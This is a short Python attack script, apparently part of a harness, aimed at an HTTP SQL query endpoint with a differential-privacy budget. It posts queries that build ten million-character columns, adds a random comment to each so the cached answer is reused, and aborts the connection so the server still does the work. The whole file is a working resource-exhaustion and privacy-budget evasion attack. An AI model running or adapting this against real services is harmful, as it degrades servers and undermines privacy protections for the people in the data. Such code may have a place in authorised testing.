"""One large answer, paid for once and free from then on, in ever new spellings. Whoever asks hangs up: the server answers all the same, and holds what it answered."""

import asyncio
import secrets

import web

LANES = 2
PAUSE = 1.0
COLUMNS = 10


async def attack(target, lane):
    _, writer = await web.connect(target.ports["http"], target.source(lane), target.tls)
    try:
        columns = ", ".join(f"repeat('x', 1000000) AS x{number}" for number in range(COLUMNS))
        sql = f"SELECT n, {columns} FROM (SELECT COUNT(*) AS n FROM people) t -- {secrets.token_hex(8)}"
        writer.write(target.post(lane, "/v1/query", {"sql": sql, "epsilon": "0.0001"}))
        await writer.drain()
        await asyncio.sleep(1)
        target.counts["asked"] += 1
    finally:
        writer.transport.abort()
